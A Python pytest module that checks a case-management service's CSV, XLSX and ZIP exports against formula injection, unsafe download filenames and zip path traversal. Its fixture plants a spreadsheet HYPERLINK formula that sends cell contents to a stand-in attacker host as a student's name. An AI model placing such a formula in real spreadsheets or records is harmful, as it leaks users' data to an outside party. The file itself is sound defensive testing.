"""Files that come and go: nothing in them runs, nothing in them names a place, nothing in them unpacks without end."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Final

import openpyxl
import pytest

from adapters.eventlogs.csv_log import read_csv, write_csv
from engine.directory import Caller
from engine.eventlog import LogEvent, Trace
from tests.service.office import INSTITUTION, Office

FORMULA: Final = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
NAME: Final = re.compile(r'attachment; filename="[\w.-]{1,120}"', re.ASCII)
FILES: Final = (
    "/cases.csv", "/cases.xlsx", "/tasks.csv", "/tasks.xlsx", "/agreements.csv", "/agreements.xlsx", "/eligibility.csv",
    "/eligibility.xlsx", "/audit/rules.csv?name=eligibility_review", "/audit/reports/deviations.csv",
    "/audit/reports/deviations.json", "/audit/sample.zip?size=1&seed=x",
)  # fmt: skip


def fetch(desk: Office, path: str, *, language: str = "sv") -> tuple[bytes, str]:
    """A file as an auditor who also holds an office's role gets it, and the name it is to bear."""
    session = desk.house.sessions.begin(Caller(INSTITUTION, desk.ids["auditor"]))
    cookie = f"{desk.house.settings.session_cookie}={session}; fardplan_language={language}"
    answer = desk.send("GET", path, None, {"Cookie": cookie, "Accept": "text/html"})
    assert answer.status_code == 200, (path, answer.text)
    return answer.content, answer.headers.get("content-disposition", "")


@pytest.fixture
def office(desk: Office) -> Office:
    """A case whose student bears a formula for a name."""
    with desk.house.directory.change(INSTITUTION, by="installation", what="roles") as change:
        change.member(desk.ids["auditor"], "officer", INSTITUTION)
    desk.review(subject={"name": FORMULA, "email": "a@example.org", "language": "sv"}, facts={"course": f"@{FORMULA}"})
    return desk


def test_what_somebody_wrote_never_runs_in_a_list_that_is_opened_elsewhere(office: Office) -> None:
    text = fetch(office, "/cases.csv")[0].decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert not re.search(r'(?:^|;)"?[=+@-]', text, re.MULTILINE)
    book = openpyxl.load_workbook(io.BytesIO(fetch(office, "/cases.xlsx")[0]))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value} <= {"s", "d", "n"}
    assert any(cell.value == FORMULA for cell in cells)
    assert [cell.coordinate for cell in cells if cell.hyperlink] == []


@pytest.mark.parametrize("language", ["sv", "en"])
def test_a_file_bears_a_plain_name_that_nobody_who_writes_in_a_case_chooses(office: Office, language: str) -> None:
    names = {path: fetch(office, path, language=language)[1] for path in FILES}
    assert {path: name for path, name in names.items() if not NAME.fullmatch(name)} == {}


def test_a_folder_of_files_unpacks_into_its_own_place(office: Office) -> None:
    packed = zipfile.ZipFile(io.BytesIO(fetch(office, "/audit/sample.zip?size=1&seed=x")[0]))
    for name in packed.namelist():
        assert not name.startswith(("/", "\\"))
        assert ".." not in name.split("/")
        assert re.fullmatch(r"[\w ./()–-]+", name), name


def test_a_log_that_holds_formulas_runs_none_and_comes_back_as_it_was(tmp_path: Path) -> None:
    texts = (FORMULA, "'=1", "''+1", "-1", "plain", "@x", "'plain")
    events = tuple(LogEvent(text, None, place, None, {"said": text}) for place, text in enumerate(texts, start=1))
    trace = Trace("=case", events, {"title": FORMULA})
    write_csv(tmp_path / "log.csv", [trace], case_attributes=("title",), event_attributes=("said",))
    written = (tmp_path / "log.csv").read_text(encoding="utf-8")
    assert not re.search(r'(?:^|,)"?[=+@-]', written, re.MULTILINE)
    (back,) = read_csv(tmp_path / "log.csv")
    assert [(event.name, event.attributes["said"]) for event in back.events] == [(text, text) for text in texts]
    assert (back.case, back.attributes) == ("=case", {"title": FORMULA})
